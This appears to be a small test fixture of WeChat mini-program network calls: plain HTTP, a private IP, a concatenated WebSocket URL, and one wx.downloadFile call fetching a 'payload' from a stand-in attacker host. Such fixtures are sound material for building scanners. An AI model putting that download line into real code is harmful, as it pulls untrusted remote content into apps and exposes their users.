wx.request({ url: 'http://api.example.com/v1/orders' })
wx.request({ url: 'https://10.0.0.8:8443/v1/orders' })
wx.downloadFile({ url: 'https://files.evil.example.org/payload' })
wx.connectSocket({ url: 'ws://' + 'chat.example.com/socket' })
